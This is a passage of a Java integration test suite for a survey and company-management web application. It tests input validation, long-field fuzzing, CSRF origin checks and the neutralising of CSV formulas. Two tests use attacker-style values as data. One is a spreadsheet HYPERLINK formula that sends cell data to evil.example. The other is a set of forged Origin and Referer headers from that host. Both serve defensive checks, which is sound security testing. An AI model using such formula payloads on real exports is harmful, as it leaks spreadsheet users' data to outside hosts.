        }
        assertEquals(404, client.api("GET", "/api/v1/admin/users/" + username, ADMIN, ADMIN_PASSWORD, null).statusCode(),
                "nothing was created");
        HttpResponse<String> nothing = client.send("PUT", "/api/v1/admin/users/" + username + "/enabled", ADMIN,
                ADMIN_PASSWORD, "application/json", "{}".getBytes(StandardCharsets.UTF_8), "Accept-Language", "en");
        assertEquals(400, nothing.statusCode(), "an empty change disables no one");
        assertEquals("Field enabled is required.", WebClient.json(nothing).asJsonObject().getString("message"));
    }

    /**
     * The pages' forms, sent back with a 100,000-character text in every text field (a field's maxlength only
     * holds in the browser): no answer is a 5xx or the error page; what is too long is refused with a message.
     */
    @Test
    void everyPageFormRefusesAHundredKilobyteTextWithoutAnErrorPage() throws Exception {
        WebClient admin = new WebClient(base);
        admin.signIn(ADMIN, ADMIN_PASSWORD);
        HttpResponse<String> company = admin.api("POST", "/api/v1/companies", ADMIN, ADMIN_PASSWORD, "{\"enterpriseNumber\":\""
                + enterpriseNumber() + "\",\"name\":\"Fuzz bv\",\"province\":\"LUIK\",\"subsectors\":[\"RUWBOUW\"]}");
        assertEquals(201, company.statusCode(), company.body());
        long companyId = WebClient.json(company).asJsonObject().getJsonNumber("id").longValue();
        String huge = "x".repeat(ApiFuzz.HUGE);
        PageFuzz signedIn = new PageFuzz(admin, huge);
        PageFuzz publicPages = new PageFuzz(new WebClient(base), huge);
        int textFields = 0;

        for (String page : List.of("/admin/users.xhtml", "/admin/mail.xhtml", "/admin/course.xhtml", "/admin/surveys.xhtml",
                "/companies/index.xhtml", "/companies/edit.xhtml", "/companies/company.xhtml?id=" + companyId,
                "/fieldwork/index.xhtml", "/surveys/index.xhtml", "/surveys/data.xhtml", "/mentorcourse/index.xhtml",
                "/analysis/index.xhtml")) {
            textFields += signedIn.run(page);
        }
        for (String page : List.of("/course/verify.xhtml", "/course/register.xhtml", "/login.xhtml")) {
            textFields += publicPages.run(page);
        }

        List<PageFuzz.Answer> answers = Stream.concat(signedIn.answers().stream(), publicPages.answers().stream()).toList();
        List<String> problems = answers.stream().map(PageFuzz.Answer::problem).flatMap(java.util.Optional::stream).toList();
        assertTrue(textFields > 15 && answers.size() > 15, textFields + " text fields, " + answers.size() + " forms sent");
        assertEquals(List.of(), problems, problems.size() + " of " + answers.size() + " forms");
        assertEquals(200, admin.get("/admin/users.xhtml").statusCode(), "the admin is still signed in");
        HttpResponse<String> after = admin.api("GET", "/api/v1/companies/" + companyId, ADMIN, ADMIN_PASSWORD, null);
        assertFalse(after.body().contains(huge), "nothing too long was stored");
    }

    @Test
    void brokenJsonAndWrongTypesAreNamedInTheAnswer() throws Exception {
        WebClient client = new WebClient(base);
        HttpResponse<String> broken = client.send("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "application/json",
                "{\"name\":".getBytes(StandardCharsets.UTF_8), "Accept-Language", "en");
        HttpResponse<String> date = client.send("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "application/json",
                "{\"name\":\"Golf\",\"invitationDate\":\"4 december\"}".getBytes(StandardCharsets.UTF_8),
                "Accept-Language", "en");
        HttpResponse<String> array = client.send("POST", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD, "application/json",
                "[1,2]".getBytes(StandardCharsets.UTF_8), "Accept-Language", "fr");

        assertEquals(400, broken.statusCode(), broken.body());
        assertTrue(WebClient.json(broken).asJsonObject().getString("message")
                .matches("The body is not valid JSON at line 1, column \\d+\\."), broken.body());
        assertEquals(400, date.statusCode(), date.body());
        assertEquals("Field invitationDate: expected a date YYYY-MM-DD (such as 2026-12-04).",
                WebClient.json(date).asJsonObject().getString("message"));
        assertEquals(400, array.statusCode(), array.body());
        assertEquals("Le corps de la demande\u00A0: un objet JSON est attendu.",
                WebClient.json(array).asJsonObject().getString("message"));
    }

    @Test
    void optionsAnswersWithTheAllowedMethods() throws Exception {
        HttpResponse<String> options = new WebClient(base).send("OPTIONS", "/api/v1/admin/users", ADMIN, ADMIN_PASSWORD,
                null, null);

        assertTrue(options.statusCode() == 200 || options.statusCode() == 204, options.statusCode() + " " + options.body());
        Set<String> allowed = Set.of(options.headers().firstValue("Allow").orElse("").replace(" ", "").split(","));
        assertTrue(allowed.containsAll(Set.of("GET", "POST")), "Allow: " + allowed);
    }

    /** Every date and timestamp the API takes or returns is described as the string it is, never as an object. */
    @Test
    void openApiDescribesDatesAndTimestampsAsStrings() throws Exception {
        HttpResponse<String> openapi = new WebClient(base).api("GET", "/openapi", null, null, null);
        JsonObject schemas = WebClient.json(openapi).asJsonObject().getJsonObject("components").getJsonObject("schemas");
        Set<Class<?>> temporal = Set.of(java.time.LocalDate.class, java.time.Instant.class,
                java.time.LocalDateTime.class, java.time.OffsetDateTime.class);
        List<String> checked = new java.util.ArrayList<>();
        List<String> wrong = new java.util.ArrayList<>();
        for (Class<?> type : ApiOperations.classesIn(Path.of("target/classes"))) {
            JsonObject schema = schemas.getJsonObject(type.getSimpleName());
            if (schema == null || schema.getJsonObject("properties") == null) {
                continue;
            }
            for (java.lang.reflect.Field field : type.getDeclaredFields()) {
                JsonObject property = schema.getJsonObject("properties").getJsonObject(field.getName());
                if (property == null || !temporal.contains(field.getType())) {
                    continue;
                }
                String format = field.getType() == java.time.LocalDate.class ? "date" : "date-time";
                checked.add(type.getSimpleName() + "." + field.getName());
                if (!"string".equals(property.getString("type", "")) || !format.equals(property.getString("format", ""))) {
                    wrong.add(type.getSimpleName() + "." + field.getName() + " is " + property);
                }
            }
        }
        assertTrue(checked.containsAll(List.of("NewWave.invitationDate", "WaveView.closingDate", "VisitSummary.date",
                "OutboxSummary.createdAt", "UserView.createdAt")), "the known dates were found: " + checked);
        assertEquals(List.of(), wrong);
    }

    @Test
    void aPageFormSentFromAnotherSiteIsRefusedAndTheSameFormFromTheApplicationWorks() throws Exception {
        WebClient admin = new WebClient(base);
        admin.signIn(ADMIN, ADMIN_PASSWORD);
        String refusedName = "origin-" + UUID.randomUUID().toString().substring(0, 8);
        String acceptedName = "origin-" + UUID.randomUUID().toString().substring(0, 8);
        String origin = base.getProtocol() + "://" + base.getHost() + ":" + base.getPort();

        String viewState = WebClient.viewState(admin.get("/admin/users.xhtml").body());
        HttpResponse<String> foreign = admin.post("/admin/users.xhtml", "createForm",
                Map.of("username", refusedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
                "Origin", "https://evil.example");
        HttpResponse<String> foreignReferer = admin.post("/admin/users.xhtml", "createForm",
                Map.of("username", refusedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
                "Referer", "https://evil.example/page.html");
        HttpResponse<String> own = admin.post("/admin/users.xhtml", "createForm",
                Map.of("username", acceptedName, "password", PASSWORD, "roles", "ADVISOR"), "create", viewState,
                "Origin", origin);

        for (HttpResponse<String> refused : List.of(foreign, foreignReferer)) {
            assertEquals(403, refused.statusCode(), refused.body());
            assertTrue(refused.body().contains("Geweigerd: verstuurd vanaf een andere site"), refused.body());
        }
        assertEquals(404, admin.api("GET", "/api/v1/admin/users/" + refusedName, ADMIN, ADMIN_PASSWORD, null).statusCode(),
                "nothing was created from the other site");
        assertEquals(200, own.statusCode(), own.body());
        assertEquals(200, admin.api("GET", "/api/v1/admin/users/" + acceptedName, ADMIN, ADMIN_PASSWORD, null).statusCode(),
                "the application's own page still creates the account");
    }

    @Test
    void importsRefuseALatin1FileWithTheLineOfItsFirstByteThatIsNotUtf8() throws Exception {
        WebClient client = new WebClient(base);
        String instrument = writeInstrument();
        try {
            String today = FundDay.today().toString();
            HttpResponse<String> wave = client.api("POST", "/api/v1/fieldwork", ADMIN, ADMIN_PASSWORD, "{\"name\":\"Latin-1\","
                    + "\"instrumentId\":\"" + instrument + "\",\"invitationDate\":\"" + today + "\",\"reminderLastDate\":\"" + today
                    + "\",\"closingDate\":\"" + today + "\"}");
            assertEquals(201, wave.statusCode(), wave.body());
            long waveId = WebClient.json(wave).asJsonObject().getJsonNumber("id").longValue();
            String good = enterpriseNumber();
            String name = "Bouw " + UUID.randomUUID().toString().substring(0, 8);

            HttpResponse<String> companies = latin1(client, "/api/v1/companies/import",
                    "enterprise_number,name,province,city\n" + good + "," + name + ",LUIK,Gent\n" + enterpriseNumber()
                            + ",Caf\u00E9 R\u00E9n\u00E9,LUIK,Li\u00E8ge\n");
            HttpResponse<String> invitees = latin1(client, "/api/v1/fieldwork/" + waveId + "/invitees",
                    "company,contact,email,language\nBouw,An,an@bouw.be,nl\nCaf\u00E9,Ren\u00E9,rene@cafe.be,fr\n");
            HttpResponse<String> responses = latin1(client, "/api/v1/surveys/" + instrument + "/import",
                    "version,Q1_KEUZE,Q2_TEKST\n1,JA,goed\n1,JA,Caf\u00E9\n");

            assertEquals(422, companies.statusCode(), companies.body());
            JsonObject companyProblem = WebClient.json(companies).asJsonObject().getJsonArray("problems").getJsonObject(0);
            assertEquals(3, companyProblem.getInt("line"), companies.body());
            assertTrue(companyProblem.getString("message").startsWith("The file is not UTF-8 text: line 3"), companies.body());
            assertEquals(0, WebClient.json(client.api("GET", "/api/v1/companies?search=" + name.replace(" ", "%20"), ADMIN,
                    ADMIN_PASSWORD, null)).asJsonObject().getInt("total"), "not even the good line is stored");
            assertEquals(422, invitees.statusCode(), invitees.body());
            assertEquals(3, WebClient.json(invitees).asJsonObject().getJsonArray("problems").getJsonObject(0).getInt("line"));
            assertEquals(0, WebClient.json(client.api("GET", "/api/v1/fieldwork/" + waveId, ADMIN, ADMIN_PASSWORD, null))
                    .asJsonObject().getJsonObject("counts").getInt("invitees"), "no invitee was added");
            assertEquals(422, responses.statusCode(), responses.body());
            JsonObject responseError = WebClient.json(responses).asJsonObject().getJsonArray("errors").getJsonObject(0);
            assertEquals(3, responseError.getInt("line"), responses.body());
            assertTrue(responseError.getString("message").contains("not UTF-8"), responses.body());
        } finally {
            removeInstrument(instrument);
        }
    }

    @Test
    void exportsNeutraliseARespondentsFormulaUnlessRawIsAsked() throws Exception {
        WebClient client = new WebClient(base);
        String instrument = writeInstrument();
        try {
            String formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik\")";
            String csv = "version,Q1_KEUZE,Q2_TEKST\n1,JA,\"" + formula.replace("\"", "\"\"") + "\"\n";
            HttpResponse<String> imported = client.csv("/api/v1/surveys/" + instrument + "/import", ADMIN, ADMIN_PASSWORD, csv);
            assertEquals(200, imported.statusCode(), imported.body());

            String codes = client.download("/api/v1/surveys/" + instrument + "/export", ADMIN, ADMIN_PASSWORD).body();
            String labels = client.download("/api/v1/surveys/" + instrument + "/export?values=labels", ADMIN, ADMIN_PASSWORD)
                    .body();
            String raw = client.download("/api/v1/surveys/" + instrument + "/export?raw=true", ADMIN, ADMIN_PASSWORD).body();

            String quoted = "\"" + formula.replace("\"", "\"\"") + "\"";
            assertTrue(codes.contains("\"'" + formula.replace("\"", "\"\"") + "\""), "the API's default export: " + codes);
            assertFalse(codes.contains("," + quoted), codes);
            assertTrue(labels.contains("\"'" + formula.replace("\"", "\"\"") + "\""), labels);
            assertTrue(raw.contains("," + quoted), "raw=true writes what was typed: " + raw);

            HttpResponse<String> again = client.csv("/api/v1/surveys/" + instrument + "/import", ADMIN, ADMIN_PASSWORD, codes);
            assertEquals(200, again.statusCode(), again.body());
            String afterRoundTrip = client.download("/api/v1/surveys/" + instrument + "/export?raw=true", ADMIN, ADMIN_PASSWORD)
                    .body();
            assertEquals(2, afterRoundTrip.split(java.util.regex.Pattern.quote(quoted), -1).length - 1,
                    "the re-imported export holds the text as typed, without the apostrophe: " + afterRoundTrip);
        } finally {
            removeInstrument(instrument);
        }
    }

    /** A valid Belgian enterprise number no test has used: ten digits starting with 1, the last two 97 minus the first eight modulo 97. */
    static String enterpriseNumber() {
        long first = 10_000_000L + java.util.concurrent.ThreadLocalRandom.current().nextLong(9_999_999L);
        return String.format("%08d%02d", first, 97 - first % 97);
    }

    private static HttpResponse<String> latin1(WebClient client, String path, String csv) throws Exception {
        return client.send("POST", path, ADMIN, ADMIN_PASSWORD, "text/csv",
                csv.getBytes(StandardCharsets.ISO_8859_1), "Accept", "application/json", "Accept-Language", "en");
    }

    /** Writes a small instrument with a choice and a text question into the IT's surveys folder and reads it. */
    private String writeInstrument() throws Exception {
        String id = ItInstruments.write("it_h", """
                id: %s
                version: 1
                languages: [nl, fr]
                title: {nl: "Hardening", fr: "Hardening"}
                sections:
                  - id: een
                    title: {nl: "Een", fr: "Un"}
                    questions:
                      - code: Q1_KEUZE
                        type: single
                        required: true
                        label: {nl: "Keuze", fr: "Choix"}
                        options:
                          - {code: JA, nl: "Ja", fr: "Oui"}
                          - {code: NEE, nl: "Nee", fr: "Non"}
                      - code: Q2_TEKST
                        type: text
                        label: {nl: "Opmerking", fr: "Remarque"}
                """).id();
        HttpResponse<String> reloaded = new WebClient(base).api("POST", "/api/v1/surveys/reload", ADMIN, ADMIN_PASSWORD, "{}");
        assertEquals(200, reloaded.statusCode(), reloaded.body());
        return id;
    }

    private void removeInstrument(String id) throws Exception {
        ItInstruments.remove(id);
        new WebClient(base).api("POST", "/api/v1/surveys/reload", ADMIN, ADMIN_PASSWORD, "{}");
    }
}
